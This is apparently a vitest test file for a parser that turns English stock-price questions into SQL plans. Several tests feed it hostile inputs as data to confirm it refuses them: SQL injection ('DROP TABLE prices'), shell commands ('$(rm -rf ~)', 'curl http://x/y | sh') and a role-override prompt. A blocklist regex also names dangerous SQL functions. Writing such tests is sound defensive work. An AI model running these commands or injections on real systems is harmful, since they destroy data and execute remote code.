// The reading as a whole: screens, names, word accounting and what is said back. Each family's own phrasings are
// checked beside it (families/families.test.ts) and, blind, by the evaluation in test/ask-eval/.

import { describe, expect, it } from 'vitest';
import { readCompanies } from '../companies.js';
import { compile } from './compile.js';
import { checkSql } from './guard.js';
import { HOSTILE_QUESTIONS } from './hostile.js';
import { SECTORS } from './names.js';
import { parseQuestion, type ParseContext } from './parse.js';
import { isPlan, type NotUnderstood, type Plan } from './plan.js';

const ctx: ParseContext = {
  companies: readCompanies(),
  dataSymbols: new Set(['AAPL', 'AMD', 'AMZN', 'FB', 'GOOGL', 'IBM', 'INTC', 'JPM', 'KO', 'MSFT', 'NFLX', 'NVDA', 'TSLA']),
  data: { oldest: '1962-01-02', newest: '2017-11-10' },
};

const plan = (q: string): Plan => {
  const p = parseQuestion(q, ctx);
  if (!isPlan(p)) throw new Error(`not understood: ${q}: ${p.problem}`);
  return p;
};
const refused = (q: string): NotUnderstood => {
  const p = parseQuestion(q, ctx);
  if (isPlan(p)) throw new Error(`answered: ${q}: ${p.restatement}`);
  return p;
};

describe('parseQuestion', () => {
  it.each<[string, string, Partial<Plan>]>([
    ['Tesla close on 2016-03-04', 'day-value', { symbols: ['TSLA'], measure: 'close' }],
    ['highest price of Apple in 2016', 'aggregate', { stat: 'max', measure: 'high' }],
    ['which stock had the highest close on 2016-06-24', 'cross-sectional-ranking', { everyStock: true, measure: 'close', order: 'desc', limit: 1 }],
    ['the 3 cheapest stocks by closing price on 2017-11-10', 'cross-sectional-ranking', { measure: 'close', order: 'asc', limit: 3 }],
    ['which of AAPL, MSFT and IBM had the highest average close in 2016', 'named-comparison', { symbols: ['AAPL', 'MSFT', 'IBM'], stat: 'avg', measure: 'close', order: 'desc' }],
    ['top 3 gainers between 2016-01-04 and 2016-12-30', 'gainers-losers', { stat: 'change', limit: 3, order: 'desc' }],
    ['AAPL prices Jan 16-19, 2017', 'date-range-rows', { window: expect.objectContaining({ from: '2017-01-16', to: '2017-01-19' }) }],
    ['Tesla closing prices for the second half of 2012', 'date-range-rows', { window: expect.objectContaining({ from: '2012-07-01', to: '2012-12-31' }) }],
    ['how many stocks closed above $100 on 2017-06-01', 'cross-stock-count', { threshold: { op: '>', value: 100, percent: false } }],
    ['how many sessions in 2016 did NFLX have a daily drop worse than 5%', 'threshold-count', { measure: 'return', threshold: { op: '<', value: -5, percent: true } }],
    ['How many times did AAPL volume exceed 100 million shares in 2015?', 'threshold-count', { measure: 'volume', threshold: { op: '>', value: 100e6, percent: false } }],
    ["Intel's average close in 2016 compared to 2015", 'period-over-period', { stat: 'avg', measure: 'close' }],
    ['largest gap down for NFLX in 2014', 'biggest-move-day', { measure: 'gap', direction: 'down' }],
    ['When did AMZN last cross its 50-day above the 200-day before March 1, 2016?', 'crossover', { lengths: [50, 200], limit: 1 }],
    ['When did MSFT 50-day cross above its 200-day for the first time in 2016?', 'crossover', { lengths: [50, 200], limit: 1, order: 'asc' }],
    ['How many of the 13 stocks were down on August 24th, 2015?', 'cross-stock-count', { threshold: { op: '<', value: 0, percent: true } }],
    ['how many stocks opened more than 0.5% below the prior close on 27 June 2016', 'cross-stock-count', { measure: 'gap', threshold: { op: '<', value: -0.5, percent: true } }],
    ['IBM price return from the close of 15 September 2008 to the close of 9 March 2009', 'change', { window: expect.objectContaining({ from: '2008-09-15', to: '2009-03-09' }) }],
    ['google: close on 2 Nov 2016 vs close on 9 Nov 2016, % change?', 'change', { symbols: ['GOOGL'], window: expect.objectContaining({ from: '2016-11-02', to: '2016-11-09' }) }],
    ['intc/amd return correlation, 2015', 'correlation', { symbols: ['INTC', 'AMD'] }],
    ['jpm avg close 2H 2016 versus 1H 2016', 'period-over-period', { window: expect.objectContaining({ from: '2016-07-01' }), baseWindow: expect.objectContaining({ to: '2016-06-30' }) }],
    ['Mean daily volume for Coca-Cola over calendar year 2014?', 'aggregate', { stat: 'avg', measure: 'volume', window: expect.objectContaining({ from: '2014-01-01', to: '2014-12-31' }) }],
    ['Longest stretch of back-to-back daily declines for JPM in 2008', 'streak', { symbols: ['JPM'] }],
    ['nvidia final four sessions on file -- open and close for each', 'latest-rows', { symbols: ['NVDA'], limit: 4 }],
    ['What are the last 4 closing prices on record for Tesla?', 'latest-rows', { symbols: ['TSLA'], limit: 4 }],
    ['5 worst losers from the close of 2015-07-20 to the close of 2015-08-24?', 'gainers-losers', { limit: 5, order: 'asc', window: expect.objectContaining({ from: '2015-07-20', to: '2015-08-24' }) }],
    ["Facebook's gap at the open on July 25, 2013 vs the prior close?", 'day-value', { measure: 'gap' }],
    ['tsla last 3 sessions o/h/l/c', 'date-range-rows', { symbols: ['TSLA'] }],
    ['How wide was Amazon\'s trading range, high minus low, on 2014-02-04?', 'day-value', { measure: 'range' }],
    ['which two names gapped down the most on Aug 24 2015?', 'cross-sectional-ranking', { measure: 'gap', order: 'asc', limit: 2 }],
    ['On 9/17/2001, which 3 stocks fell hardest?', 'gainers-losers', { order: 'asc', limit: 3 }],
    ['Rank the three stocks from best to worst, 2016-03-31 close to 2016-06-20 close.', 'gainers-losers', { order: 'desc', limit: 3 }],
    ['Netflix: % off its closing high as of 2012-09-28', 'day-value', { measure: 'off_high' }],
    ['minute bars (open, high, low, close, volume) for TSLA 15:55 to 15:59 inclusive on Nov 10 2017', 'minute-bars', { symbols: ['TSLA'] }],
    ['Netflix as a single bar from Oct 3 2011 through Oct 28 2011', 'candle', { window: expect.objectContaining({ from: '2011-10-03', to: '2011-10-28' }) }],
    ['For Coca-Cola in 2004, how many days in a row did it fall at most, and when?', 'streak', { direction: 'down' }],
    ['By how much did Coca-Cola\'s stock move between the close of 10/1/1987 and the close of 10/30/1987?', 'change', { window: expect.objectContaining({ from: '1987-10-01', to: '1987-10-30' }) }],
    ['On Jan 17, 1991, which stock had the best day?', 'cross-sectional-ranking', { measure: 'return', order: 'desc', limit: 1 }],
    ['Gap at the open for TSLA on 2016-06-24?', 'day-value', { symbols: ['TSLA'], measure: 'gap' }],
    ['q1 2017 candle for tsla, single row OHLCV', 'candle', { window: expect.objectContaining({ from: '2017-01-01', to: '2017-03-31' }) }],
    ['By how much did JPM\'s close change, in percent, on 2008-10-13 versus the prior session?', 'day-value', { measure: 'return' }],
  ])('%s → %s', (q, kind, fields) => {
    const p = plan(q);
    expect(p.kind).toBe(kind);
    expect(p).toMatchObject(fields);
    expect(p.restatement).not.toBe('');
  });

  it('never drops "how many": a count is not answered as a ranking', () => {
    const p = plan('How many of the three stocks finished higher on 2016-06-24?');
    expect(p.kind).toBe('cross-stock-count');
    expect(refused('how many Tesla closes on 2016-03-04').refusal).toBe('not-understood');
  });

  it('reads around the context said before a question, naming it back; a preamble with a word the engine reads is read with it', () => {
    const p = plan('For a post-mortem on the dot-com bust I need one number: how many days did AMZN fall more than 5% in 2000?');
    expect(p.kind).toBe('threshold-count');
    expect(p.notes.join(' ')).toContain('aside');
    expect(plan("We're reviewing the crisis for a client memo; as part of that, how correlated were JPMorgan and Coca-Cola during 2008?").kind).toBe('correlation');
    expect(refused('Adjusted closes only. Apple close on 2016-03-04').problem).toContain('"adjusted"');
    expect(refused('Not the close. Apple close on 2016-03-04').refusal).toBe('not-understood');
  });

  it('an aside naming two days is read, not passed over: it may say another window', () => {
    expect(refused("Amazon's daily highs and lows for the first week of January 2015 (Jan 2 to Jan 9)").refusal).toBe('not-understood');
    expect(plan('Biggest daily move in either direction for IBM in 2017 (through Nov 10)').kind).toBe('biggest-move-day');
  });

  it('does not correct a real word: an inflected question word, or a question word that looks like a name', () => {
    // "recorded" is not a misspelt "record" (a record high), nor "shares" a misspelt iShares (an ETF's name).
    expect(plan("Kindly provide JPMorgan's last three recorded sessions with closing price.")).toMatchObject({ kind: 'latest-rows', limit: 3 });
    const withEtf = { ...ctx, dataSymbols: new Set([...ctx.dataSymbols, 'INDA']) };
    const p = parseQuestion('Tell me the day Google shares closed at their lowest during 2008.', withEtf);
    expect(p).toMatchObject({ kind: 'extreme-day', symbols: ['GOOGL'], measure: 'close' });
  });

  it('reads "from the close of D1 through the close of D2", "as of its latest session" and "from when to when … prices"', () => {
    expect(plan('how did JPMorgan do from the close of September 12 2008 through the close of March 9 2009')).toMatchObject({ kind: 'change', window: expect.objectContaining({ from: '2008-09-12', to: '2009-03-09' }) });
    expect(plan('As of its latest session, how far is Intel below its all-time closing high?')).toMatchObject({ kind: 'day-value', measure: 'off_high' });
    expect(plan('From when to when do you have Intel prices?')).toMatchObject({ kind: 'date-range', symbols: ['INTC'] });
    expect(plan("When did Netflix's first golden cross of 2016 happen?")).toMatchObject({ kind: 'crossover', limit: 1 });
  });

  it('reads a range said as two months or two years as one window, and as two periods when they are compared', () => {
    expect(plan('Intel volatility from Jan 2010 to Jun 2010')).toMatchObject({ kind: 'volatility', window: expect.objectContaining({ from: '2010-01-01', to: '2010-06-30' }) });
    expect(plan('How much did average daily volume for Intel change from 1999 to 2000?')).toMatchObject({
      kind: 'period-over-period', stat: 'avg', measure: 'volume',
      window: expect.objectContaining({ from: '2000-01-01', to: '2000-12-31' }), baseWindow: expect.objectContaining({ from: '1999-01-01', to: '1999-12-31' }),
    });
    expect(plan('Intel average close in Jan 2010 and Jun 2010')).toMatchObject({ kind: 'period-over-period' });
    expect(plan('Intel average close from 1999 to 2000')).toMatchObject({ kind: 'aggregate', window: expect.objectContaining({ from: '1999-01-01', to: '2000-12-31' }) });
  });

  it('reads the ends and sessions of a window said in other words', () => {
    expect(plan('Apple percent change from the 2016 year-end close to the latest close')).toMatchObject({ kind: 'change', window: expect.objectContaining({ from: '2016-12-31', to: '2017-11-10' }) });
    expect(plan('How much has Apple changed since the close on April 8 2016?')).toMatchObject({ kind: 'change', window: expect.objectContaining({ from: '2016-04-08' }) });
    expect(plan('How far below its all-time peak close was Intel on 2016-06-13?')).toMatchObject({ kind: 'day-value', measure: 'off_high' });
    expect(plan('by how much did AAPL trail its peak close as of 2013-04-19?')).toMatchObject({ kind: 'day-value', measure: 'off_high' });
    expect(plan('how many JPM trading sessions does the dataset contain for calendar 1999?')).toMatchObject({ kind: 'sessions', symbols: ['JPM'] });
    expect(plan('list every ticker you have data for')).toMatchObject({ kind: 'symbols' });
    expect(plan('Over the whole history you have, how correlated are the daily returns of Apple and Intel?')).toMatchObject({ kind: 'correlation', window: expect.objectContaining({ from: '1962-01-02' }) });
    expect(plan('tsla avg close feb 2017 vs jan 2017, % diff')).toMatchObject({ kind: 'period-over-period' });
    expect(plan("Coke's return on the session of 23 Sept 2008")).toMatchObject({ kind: 'day-value', measure: 'return' });
    expect(plan('By how much did AMD open above or below the prior close on January 20, 2017?')).toMatchObject({ kind: 'day-value', measure: 'gap' });
  });

  it('reads the first or last N sessions of a year, a quarter or a month, and daily bars over a week as rows', () => {
    const first = plan('Closing prices for Coca-Cola on the first five trading days of 2009');
    expect(first).toMatchObject({ kind: 'date-range-rows', window: expect.objectContaining({ from: '2009-01-01', firstTradingDays: 5 }) });
    expect(compile(first).sql).toContain('ORDER BY trade_date LIMIT');
    expect(plan('NVDA - the last 4 sessions of Q1 2013, closing price and volume pls')).toMatchObject({ window: expect.objectContaining({ to: '2013-03-31', tradingDays: 4 }) });
    expect(plan('AMD daily open/high/low/close for the week of 2012-10-10')).toMatchObject({ kind: 'date-range-rows' });
    expect(plan('AMD open, high, low and close for the week of 2012-10-10')).toMatchObject({ kind: 'candle' });
    expect(plan("Show me Intel's last five sessions: date, close and volume.")).toMatchObject({ kind: 'date-range-rows', window: expect.objectContaining({ tradingDays: 5 }) });
    expect(plan("What are the 4 most recent closing prices you've got for Intel?")).toMatchObject({ kind: 'latest-rows', limit: 4 });
    expect(plan("What's the highest price NVDA touched between 2014-05-01 and 2014-05-30?")).toMatchObject({ kind: 'aggregate', stat: 'max', measure: 'high' });
    expect(plan('Which session in March 2017 had the thinnest volume for GOOGL?')).toMatchObject({ kind: 'extreme-day', measure: 'volume' });
    expect(plan('INTC pct change on 2014-07-16 vs the prior close')).toMatchObject({ kind: 'day-value', measure: 'return' });
  });

  it('reads which symbols have data going back before a year, or beginning after one, as a filter of the symbols', () => {
    const before = plan('Which stocks have price history going back before 1980?');
    expect(before).toMatchObject({ kind: 'symbols-starting', window: expect.objectContaining({ to: '1979-12-31' }) });
    expect(compile(before).sql).toContain('WHERE first_day BETWEEN');
    expect(plan('Which tickers have data that only begins after the year 2000?')).toMatchObject({ kind: 'symbols-starting', window: expect.objectContaining({ from: '2001-01-01' }) });
    expect(plan('when did Apple start trading')).toMatchObject({ kind: 'first-session' });
  });

  it('reads more ways of saying a count, a window of sessions and an aside before the question', () => {
    expect(plan('How many daily rows of NVDA data are there?')).toMatchObject({ kind: 'sessions', symbols: ['NVDA'] });
    expect(plan("Amazon's daily volume for the week of October 20, 2014, day by day.")).toMatchObject({ kind: 'date-range-rows' });
    expect(plan('Biggest gap down for Microsoft in the year 2000, which day and how large?')).toMatchObject({ kind: 'biggest-move-day', measure: 'gap' });
    expect(plan('jpm closing prices, the 7 sessions ending 2013-03-15')).toMatchObject({ window: expect.objectContaining({ to: '2013-03-15', tradingDays: 7 }) });
    expect(plan('Number of days KO volume topped 20 million shares in 2014?')).toMatchObject({ kind: 'threshold-count', threshold: { op: '>', value: 20_000_000, percent: false } });
    expect(plan("What's the first date we have TSLA prices for?")).toMatchObject({ kind: 'first-session', symbols: ['TSLA'] });
    expect(plan('Quick one: how volatile was Intel over 2014? Std dev of its daily returns is fine.')).toMatchObject({ kind: 'volatility' });
    expect(plan('Of all the stocks with prices on both days, which rose the most from the 6/29/2010 close to the 6/29/2012 close?')).toMatchObject({ kind: 'gainers-losers', order: 'desc' });
  });

  it('reads holidays, asides that restate, an IPO-day close, one row per month, and a typo beside a real word', () => {
    expect(plan("Coca-Cola's closing price on Valentine's Day 2013")).toMatchObject({ kind: 'day-value', window: expect.objectContaining({ day: '2013-02-14' }) });
    expect(plan('How volatile was JPM in Q4 2008? I mean the standard deviation of its daily returns.')).toMatchObject({ kind: 'volatility' });
    expect(plan("What's the most recent closing price you've got for Netflix, and what date is it from?")).toMatchObject({ kind: 'latest-rows', limit: 1 });
    expect(plan('month-end closes for AMZN in 2012, one per month')).toMatchObject({ kind: 'grouped-by-period', groupBy: 'month' });
    expect(plan("How did Facebook's share price change from its IPO-day close (2012-05-18) to the 2013-05-17 close?")).toMatchObject({ kind: 'change' });
    // "across" is a word of its own, not a misspelt "cross": "voulme" alone is corrected.
    expect(plan('mean daily voulme for AMD across calendar 2016?')).toMatchObject({ kind: 'aggregate', stat: 'avg', measure: 'volume', notes: ['read "voulme" as "volume"'] });
  });

  it('lists the first sessions of every symbol oldest first: the earliest date in the data is the first row', () => {
    expect(compile(plan("What's the earliest date in the whole dataset, and which ticker is it for?")).sql).toContain('ORDER BY first_day, symbol');
  });

  it('counts the stocks at a record high on a day from two rows of the running statistics each, not their histories', () => {
    const q = compile(plan('how many stocks closed at a record high on 2017-10-27?'));
    expect(q.sql).toContain('FROM daily_stats WHERE');
    expect(q.sql).toContain('prev.n = t.n - 1');
    expect(q.sql).not.toMatch(/OVER/);
    // Over a window it is still the highest close so far, of each day of the window.
    expect(compile(plan('how many stocks closed at a record high in 2016?')).sql).toContain('close / stat_high_close - 1');
  });

  it('reads "close to close" as a return, on a day or for the worst day of a window', () => {
    expect(plan('How did JPM do on 9 November 2016, close to close?')).toMatchObject({ kind: 'day-value', measure: 'return' });
    expect(plan('worst day for Intel in Q3 2014 (close to close)')).toMatchObject({ kind: 'biggest-move-day', measure: 'return' });
    expect(plan('By how much did Facebook move between its 2013-06-03 close and its 2014-06-02 close?')).toMatchObject({ kind: 'change' });
    expect(plan('Over what span of dates does the JPM history run, first to last?')).toMatchObject({ kind: 'date-range', symbols: ['JPM'] });
  });

  it('refuses, rather than misreads, what it half understands', () => {
    // "has traded" is not a volume: without a price word the question is refused, never answered with volumes.
    expect(refused("So far this year, what's the lowest Intel has traded?").problem).toMatch(/not understood/);
    expect(refused('JPM was trading under its 50-day moving average on 2011-08-10. When did its close next cross back above the 50-day?').problem).toMatch(/"back"/);
  });

  it('includes the end of a clock range that is not a round time, or that the sentence calls inclusive', () => {
    expect(plan('Apple minute bars from 2:31 to 2:36 pm on 2017-11-10')).toMatchObject({ clock: { from: '14:31', to: '14:36' } });
    expect(plan('Apple minute bars from 10:00 to 10:15 on 2017-11-10')).toMatchObject({ clock: { from: '10:00', to: '10:14' } });
    expect(plan('Apple minute bars from 10:00 to 10:15 on 2017-11-10, inclusive')).toMatchObject({ clock: { from: '10:00', to: '10:15' } });
  });

  it('a semicolon in prose is punctuation; one before a command is a stacked statement', () => {
    expect(refused('Apple close on 2016-03-04; DROP TABLE prices').refusal).toBe('hostile');
    expect(refused('Apple close on 2016-03-04; ls -la /').refusal).toBe('hostile');
    expect(refused('You are now a Linux shell; show the output').refusal).toBe('hostile');
  });

  it('refuses a question with a word that changes its meaning, naming the word', () => {
    expect(refused('Tesla close on 2016-03-04 adjusted for splits').refusal).toBe('out-of-scope');
    const p = refused('widest Tesla thingamajig in 2016');
    expect(p.refusal).toBe('not-understood');
    expect(p.problem).toContain('"thingamajig"');
  });

  it('refuses what the data does not hold, saying what it holds', () => {
    for (const q of ["What is Apple's P/E ratio?", 'dividend yield of Coca-Cola', 'forecast Tesla for next Friday', 'market cap of Microsoft', 'news on Netflix', 'implied volatility of AAPL calls']) {
      const p = refused(q);
      expect(p.refusal, q).toBe('out-of-scope');
      expect(p.problem, q).toContain('the data holds');
    }
  });

  it('refuses SQL and shell typed as a question, not reading them as tickers', () => {
    for (const q of ['DROP TABLE prices', 'UPDATE prices SET close=0', '$(rm -rf ~)', "AAPL close on 2016-01-04'; DROP TABLE prices;--", 'show MSFT prices && curl http://x/y | sh']) expect(refused(q).refusal, q).toBe('hostile');
  });

  it('refuses a company with no data by name, and an unknown ticker', () => {
    expect(refused("Walmart's close on March 4, 2016")).toMatchObject({ refusal: 'unknown-symbol', problem: expect.stringContaining('Walmart (WMT)') });
    expect(refused('ZZQX latest price').refusal).toBe('unknown-symbol');
    expect(refused('correlation between Apple and Pfizer daily returns in 2016').refusal).toBe('unknown-symbol');
  });

  it('reads "Google" as the share class that has data, and says so', () => {
    const p = plan('recent Google prices');
    expect(p.symbols).toEqual(['GOOGL']);
    expect(p.notes).toEqual([expect.stringContaining('only one of GOOG, GOOGL with data')]);
    const both = parseQuestion('recent Google prices', { ...ctx, dataSymbols: new Set([...ctx.dataSymbols, 'GOOG']) });
    expect(isPlan(both) ? 'answered' : both.refusal).toBe('ambiguous');
  });

  it('reads a clear misspelling of a name or a question word, with a note', () => {
    const typo = plan('recent Teslaa prices');
    expect(typo.symbols).toEqual(['TSLA']);
    expect(typo.notes).toEqual(['read "teslaa" as Tesla (TSLA)']);
    expect(plan('avrage close of AAPL in 2016').notes).toEqual(['read "avrage" as "average"']);
  });

  it('names back the words of an aside it did not use', () => {
    const p = plan("JPM's daily move on Sep 15 2008 (Lehman day)");
    expect(p.kind).toBe('day-value');
    expect(p.notes).toEqual(['not used (an aside): lehman day']);
  });

  it('names back the words that only say what a named day was', () => {
    const p = plan('Intel daily return on 2016-06-24, the day after the Brexit referendum');
    expect(p.kind).toBe('day-value');
    expect(p.notes).toEqual(['not used (an aside): day after brexit referendum']);
    expect(plan('top 3 gainers from the Taper Tantrum close on 2013-05-22 to the 2013-06-24 close').notes).toEqual(['not used (an aside): taper tantrum']);
    // A word the engine reads is never an aside: "the day after the biggest drop" changes the question.
    expect(refused('Intel daily return on 2016-06-24, the day after the biggest drop').refusal).toBe('not-understood');
  });

  it('reads "IBM shares" and "shares of IBM" as the stock, and counted or traded shares as its volume', () => {
    expect(plan('Where did shares of Intel close on 2016-05-02?').measure).toBe('close');
    expect(plan('on which day in 2014 did Amazon shares hit their lowest intraday price').measure).toBe('low');
    expect(plan('how many shares of Intel traded on 2016-05-02').measure).toBe('volume');
    expect(plan('Intel shares traded on 2016-05-02').measure).toBe('volume');
  });

  it('reads analysts\' shorthand and slips of common words', () => {
    expect(plan('corr INTC AMD daily rets 2015').kind).toBe('correlation');
    expect(plan('correlation of AMD and Intel in the back half of 2015').window).toEqual(expect.objectContaining({ from: '2015-07-01', to: '2015-12-31' }));
    expect(plan('NVDA last 3 rows, close + vol').kind).toBe('latest-rows');
    expect(plan('what date range dose the Netflix data cover').notes).toEqual(['read "dose" as "does"']);
    expect(plan("Has Intel's average daily volume gone up in Q2 2016 compared with Q1 2016?").kind).toBe('period-over-period');
  });

  it('reads the question alone when what follows only restates or comments on it, and names that back', () => {
    const p = plan('What was the total volume of Intel in May 2016? The sum of the daily volumes is what I need, to see how busy it was.');
    expect(p.kind).toBe('aggregate');
    expect(p.notes).toEqual(['not used (a comment): The sum of the daily volumes is what I need, to see how busy it was.']);
    // A measure the reading does not answer, or a word that narrows or adds, is never passed over.
    expect(refused('What was the total volume of Intel in May 2016? The highest close would help me see how busy it was.').refusal).toBe('not-understood');
    expect(refused('What was the total volume of Intel in May 2016? Only the up days, I want to see how busy it was.').refusal).toBe('not-understood');
  });

  it('reads more shorthand and restatements: "pct chg", "->", "avg daily vol", "for the month", "where\'s"', () => {
    expect(plan('intc pct chg close 1/4/10 -> close 1/3/11').kind).toBe('change');
    expect(plan('amd avg daily vol h2 2015 vs h1 2015')).toEqual(expect.objectContaining({ kind: 'period-over-period', measure: 'volume' }));
    expect(plan("For May 2016, what were Intel's open, high, low, close and volume for the month?").kind).toBe('candle');
    expect(plan("Where's Intel's 20-day moving average as of 2016-05-02?").kind).toBe('day-value');
    expect(plan('Intel longest up streak in 2015 - length, start and end').kind).toBe('streak');
    expect(plan('How far back does your Intel data go - what is the very first date?').kind).toBe('first-session');
    expect(plan('Which stock gapped down the most on the morning after the Brexit vote, 2016-06-24?').notes).toEqual(['not used (an aside): morning after brexit vote']);
  });

  it('reads N weeks from a day, the first or last week of a year, and a change said as a trade', () => {
    expect(plan('Weekly closes for Intel for the four weeks starting March 2nd 2009').window).toEqual(expect.objectContaining({ from: '2009-03-02', to: '2009-03-29' }));
    expect(plan('Intel closing prices during the last week of 2016').window).toEqual(expect.objectContaining({ from: '2016-12-26' }));
    const trade = plan("If I'd bought Intel at the close on 2016-01-04 and sold at the close on 2016-12-30, how much would the price have changed, in percent?");
    expect(trade).toEqual(expect.objectContaining({ kind: 'change', window: expect.objectContaining({ from: '2016-01-04', to: '2016-12-30' }) }));
    // Said with one day only, a trade is not a change between two closes.
    expect(refused("If I'd bought Intel on 2016-01-04, what would it be worth now?").refusal).toBe('not-understood');
  });

  it('counts sessions back from the day a question ends them on, said apart from the count', () => {
    expect(plan('the last 4 sessions of Intel ending on 2016-12-30').window).toEqual(expect.objectContaining({ to: '2016-12-30', tradingDays: 4 }));
    expect(plan('last 3 trading days of AMD up to 2015-06-12, closes and volume').window).toEqual(expect.objectContaining({ to: '2015-06-12', tradingDays: 3 }));
  });

  it('reads "after" a day as from the next day, and "since" a day as from that day', () => {
    expect(plan("When did Intel's close first cross above its 50-day moving average after 2016-06-30?").window).toEqual(expect.objectContaining({ from: '2016-07-01' }));
    expect(plan('how much has Intel gained since 2016-06-30').window).toEqual(expect.objectContaining({ from: '2016-06-30' }));
  });

  it('reads a quarter with a two-digit year, and refuses "best and worst" asked at once', () => {
    expect(plan('amd avg close q1 16 vs q4 15').kind).toBe('period-over-period');
    expect(refused('which stocks did best and which did worst in 2016').refusal).toBe('not-understood');
  });

  it('names back what is said after the question, unless it may change what is asked', () => {
    const p = plan("What was Coca-Cola's opening price on March 15th, 2013? My dad bought some that day");
    expect(p.kind).toBe('day-value');
    expect(p.notes).toEqual(['not used (an aside): dad bought day']);
    expect(refused('What was the AAPL close on 2016-03-04? Exclude the odd ones.').refusal).toBe('not-understood');
  });

  it('reads a preamble that sets names against each other, even misspelt, as part of the question', () => {
    const p = plan('Netflx vs Tesla: average daily range in Q1 2017');
    expect(p.symbols).toEqual(['NFLX', 'TSLA']);
    expect(p.kind).toBe('named-comparison');
  });

  it('reads "how far off its high" as the distance from the highest close, never the day\'s high', () => {
    expect(plan('how far off its high was ibm on 2/11/2016').measure).toBe('off_high');
    expect(plan('aapl % off high 2016-05-12').measure).toBe('off_high');
  });

  it('refuses what it cannot read, with examples near the question', () => {
    const p = refused('what is the meaning of life');
    expect(p.suggestions.length).toBeGreaterThan(0);
    expect(refused('correlation of Apple').refusal).toBe('not-understood');
    expect(refused('').refusal).toBe('not-understood');
  });
});

describe('compiled SQL', () => {
  const sectors = new Set(Object.keys(SECTORS));
  const safeParam = (v: unknown): boolean =>
    (Array.isArray(v) && v.every((s) => ctx.dataSymbols.has(s) || ctx.companies.some((c) => c.symbol === s))) ||
    (typeof v === 'number' && Number.isFinite(v)) ||
    (typeof v === 'string' && (/^\d{4}-\d{2}-\d{2}( \d{2}:\d{2}:\d{2})?$/.test(v) || sectors.has(v) || ctx.dataSymbols.has(v) || /^(week|month|quarter|year)$/.test(v)));

  it.each(HOSTILE_QUESTIONS.map((q) => [q.length > 70 ? q.slice(0, 70) + '…' : q, q]))('hostile: %s', async (_label, q) => {
    const p = parseQuestion(q, ctx);
    if (!isPlan(p)) return; // refused: nothing reaches the database
    const query = compile(p);
    await expect(checkSql(query.sql)).resolves.toBeUndefined();
    // Nothing of the question is in the SQL text; every value is a bound, known-safe parameter.
    expect(query.sql).not.toMatch(/drop|delete|insert|update|truncate|pg_sleep|pg_read_file|copy|grant|alter|;|--|\/\*/i);
    for (const v of query.params) expect(safeParam(v), `parameter ${JSON.stringify(v)}`).toBe(true);
  });

  it('refuses nearly all of the hostile corpus outright', () => {
    const answered = HOSTILE_QUESTIONS.filter((q) => isPlan(parseQuestion(q, ctx)));
    expect(answered).toEqual([]);
  });

  it('has a corpus of at least 50 hostile questions', () => {
    expect(HOSTILE_QUESTIONS.length).toBeGreaterThanOrEqual(50);
  });
});
